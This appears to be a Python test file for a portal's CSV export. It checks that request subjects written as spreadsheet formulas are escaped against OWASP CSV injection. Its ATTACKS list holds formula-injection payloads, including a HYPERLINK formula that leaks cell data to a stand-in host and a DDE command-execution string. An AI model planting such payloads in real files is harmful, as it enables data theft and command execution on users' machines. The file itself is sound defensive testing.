"""Exports are safe to open in a spreadsheet (OWASP CSV injection), and exact with ``raw``."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from portail_adapters.exchange_csv import export_csv
from portail_adapters.exchange_csv.exporting import spreadsheet_safe
from portail_domain.services.requests import open_request
from tests.support import add_subscriber

ATTACKS = [
    '=HYPERLINK("http://evil.test/?leak="&A1,"Cliquez ici")',
    "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "  =1+1", "\n=1+1",
]


def runs_as_formula(cell: str) -> bool:
    """What a spreadsheet does with a cell: a formula if it starts (after blanks) with one of these."""
    return cell[:1] in ("\t", "\r") or cell.lstrip()[:1] in ("=", "+", "-", "@")


@given(st.text(max_size=40))
def test_no_cell_runs_as_a_formula_and_the_text_is_kept(text):
    safe = spreadsheet_safe(text)
    assert safe == text or safe == "'" + text
    assert not runs_as_formula(safe) or (safe == text and re.fullmatch(r"-?[0-9]+([.,][0-9]+)?", text))


@pytest.mark.parametrize("number", ["-12.5", "-3", "42", "0,75"])
def test_plain_numbers_stay_numbers(number):
    assert spreadsheet_safe(number) == number


def request_export(portal, subject: str, *, raw: bool = False) -> list[str]:
    marie = add_subscriber(portal)
    open_request(portal, marie.id, category="other", subject=subject, message="Bonjour")
    out = io.StringIO()
    export_csv(portal, "requests", out, raw=raw)
    [header, row] = list(csv.reader(io.StringIO(out.getvalue()), delimiter=";"))
    return row[header.index("subject"):][:1]


@pytest.mark.parametrize("subject", ATTACKS)
def test_a_request_subject_written_as_a_formula_is_exported_as_text(memory_portal, subject):
    [cell] = request_export(memory_portal, subject)
    assert cell.startswith("'") and not runs_as_formula(cell)


def test_raw_exports_keep_the_cells_as_they_are(memory_portal):
    assert request_export(memory_portal, ATTACKS[0], raw=True) == [ATTACKS[0]]
